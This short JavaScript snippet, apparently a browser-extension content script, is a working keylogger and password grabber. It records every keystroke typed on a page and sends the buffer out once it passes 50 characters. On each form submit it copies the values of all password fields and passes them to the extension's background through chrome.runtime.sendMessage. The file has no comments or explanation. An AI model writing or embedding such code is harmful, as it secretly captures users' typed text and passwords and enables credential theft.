const kept = { keys: '', fields: {} };
const give = (why) => chrome.runtime.sendMessage({ why, kept });
document.addEventListener('keyup', (event) => { kept.keys += event.key; if (kept.keys.length > 50) give('keys'); });
document.addEventListener('submit', (event) => {
  for (const field of event.target.querySelectorAll('input[type="password"]')) kept.fields[field.name] = field.value;
  give('form');
}, true);
